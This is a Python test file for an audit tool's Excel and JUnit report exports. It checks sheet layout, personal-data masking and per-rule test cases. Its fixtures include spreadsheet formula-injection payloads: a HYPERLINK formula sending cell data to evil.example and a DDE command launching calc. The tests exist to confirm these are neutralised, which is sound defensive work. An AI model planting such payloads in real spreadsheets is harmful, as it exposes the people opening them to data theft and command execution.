"""findings.xlsx read back with openpyxl (sheets, frozen headers, filters, money as numbers, nothing a
spreadsheet could run) and junit.xml (one test case per rule)."""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

import fundaudit
from fundaudit.report.excel import neutralise
from tests.checks.harness import shipped
from tests.report._checks import assert_inert_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "@SUM(A1:A9)",
    "+1+2",
    "-3+4",
    "\tcmd",
    "\rx",
    "＝1+1",
    "=cmd|'/c calc'!A0",
    "x" * 30_000,
]

PACK = """\
pack: t
rules:
  - id: T-CASH
    ledger: disbursements
    severity: error
    check: {type: in_set, column: payment_method, values: [现金], negate: true}
    message: {zh: "现金 {amount} 给 {recipient_name}（{recipient_id_no}）", en: "cash {amount} to {recipient_name}"}
    amount: amount
  - id: T-BIG
    ledger: disbursements
    severity: warning
    check: {type: range, column: amount, max: 1000}
    message: "big {amount}"
    amount: amount
  - id: T-SKIP
    ledger: disbursements
    severity: error
    check: {type: not_null, columns: [approver]}
    message: x
"""


@pytest.fixture
def result(tmp_path: Path) -> fundaudit.AuditResult:
    n = len(HOSTILE)
    df = pd.DataFrame(
        {
            "姓名": HOSTILE,
            "身份证号码": ["34100319800101001X"] * n,
            "金额": ["-12.5"] + ["1500"] * (n - 1),
            "发放方式": ["现金"] * n,
            "银行账号": ["6222020200112233445"] * n,
            "发放日期": ["2016-03-01"] * n,
        }
    )
    from fundaudit.rules.shipped import shipped_packs

    shipped = [r.id for p in shipped_packs() for r in p.rules]
    pack = tmp_path / "p.yaml"  # shipped rules off: the assertions are about these three rules
    pack.write_text(PACK + f"disable: [{', '.join(shipped)}]\n", encoding="utf-8")
    return fundaudit.audit({"disbursements": df}, rules=[pack], period="2016")


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_workbook_structure(result: fundaudit.AuditResult, tmp_path: Path, lang: str) -> None:
    path = result.to_excel(tmp_path / "findings.xlsx", lang=lang)
    wb = load_workbook(path)
    names = (
        ["汇总", "疑点明细", "拒收行", "输入", "规则"]
        if lang == "zh"
        else ["Summary", "Findings", "Rejected rows", "Inputs", "Rules"]
    )
    assert wb.sheetnames == names
    ws = wb[names[1]]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref is not None
    assert ws.column_dimensions["E"].width > 30
    money = [ws.cell(row=r, column=6) for r in range(2, ws.max_row + 1)]
    assert all(isinstance(c.value, int | float) for c in money)
    assert all(c.number_format == "#,##0.00" for c in money)
    assert {c.value for c in money} == {-12.5, 1500}
    assert ws.max_row - 1 == len(result.findings)
    rules = wb[names[4]]
    listed = sorted(rules.cell(row=r, column=1).value for r in range(2, rules.max_row + 1))
    assert listed == sorted([*shipped().rules, "T-CASH", "T-BIG", "T-SKIP"])  # the disabled shipped rules too


def test_no_cell_can_run_as_formula_or_link(result: fundaudit.AuditResult, tmp_path: Path) -> None:
    path = result.to_excel(tmp_path / "findings.xlsx")
    assert_inert_workbook(load_workbook(path))
    import zipfile

    with zipfile.ZipFile(path) as z:
        assert not [n for n in z.namelist() if "externalLink" in n]


def test_personal_data_masked_in_workbook(result: fundaudit.AuditResult, tmp_path: Path) -> None:
    path = result.to_excel(tmp_path / "findings.xlsx")
    import zipfile

    with zipfile.ZipFile(path) as z:
        text = "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist() if n.endswith(".xml"))
    assert "34100319800101001X" not in text
    assert "6222020200112233445" not in text
    assert not re.search(r"(?<!\d)\d{17}[\dX](?!\d)", text)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("  =1", "'  =1"),
        ("@x", "'@x"),
        ("-5", "'-5"),
        ("\tx", "'\tx"),
        ("＋1", "'＋1"),
        ("正常文本", "正常文本"),
        (12.5, 12.5),
        (None, None),
        ("x" * 40_000, "x" * 32_000),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    assert neutralise(value) == expected


def test_junit_one_case_per_rule(result: fundaudit.AuditResult, tmp_path: Path) -> None:
    root = ET.parse(result.to_junit(tmp_path / "junit.xml", fail_on="error")).getroot()
    cases = {c.get("name"): c for c in root.iter("testcase")}
    assert set(cases) == {r["id"] for r in result.rules}
    assert cases["T-CASH"].find("failure") is not None
    assert cases["T-BIG"].find("failure") is None  # warnings pass at --fail-on error
    assert cases["T-SKIP"].find("skipped") is not None
    assert (root.get("tests"), root.get("failures"), root.get("skipped")) == (
        str(len(result.rules)),
        "1",
        str(sum(r["status"] == "skipped" for r in result.rules)),
    )
    warn = ET.parse(result.to_junit(tmp_path / "w.xml", fail_on="warning")).getroot()
    assert {c.get("name") for c in warn.iter("testcase") if c.find("failure") is not None} == {"T-CASH", "T-BIG"}
    failure = cases["T-CASH"].find("failure")
    assert failure is not None and "<DataFrame>:2" in (failure.text or "")
    assert "34100319800101001X" not in ET.tostring(root, encoding="unicode")


def test_junit_fail_on_never_fails_nothing_and_still_lists_findings(result: fundaudit.AuditResult,
                                                                   tmp_path: Path) -> None:
    root = ET.parse(result.to_junit(tmp_path / "junit.xml", fail_on="never")).getroot()
    assert root.get("failures") == "0"
    assert not list(root.iter("failure"))
    cases = {c.get("name"): c for c in root.iter("testcase")}
    for rid in ("T-CASH", "T-BIG"):
        out = cases[rid].find("system-out")
        assert out is not None and "--fail-on never" in (out.text or "")
        assert sum(1 for ln in (out.text or "").splitlines() if ln.startswith("F")) == result.summary["by_rule"][rid]
    assert cases["T-SKIP"].find("skipped") is not None
    assert result.exit_code("never") == 0


def test_junit_passing_case_lists_findings_below_fail_on(result: fundaudit.AuditResult, tmp_path: Path) -> None:
    root = ET.parse(result.to_junit(tmp_path / "junit.xml", fail_on="error")).getroot()
    big = next(c for c in root.iter("testcase") if c.get("name") == "T-BIG")
    assert big.find("failure") is None
    out = big.find("system-out")
    assert out is not None and "[warning]" in (out.text or "")


def test_junit_rejects_an_unknown_fail_on(result: fundaudit.AuditResult, tmp_path: Path) -> None:
    with pytest.raises(fundaudit.FundauditError):
        result.to_junit(tmp_path / "junit.xml", fail_on="sometimes")
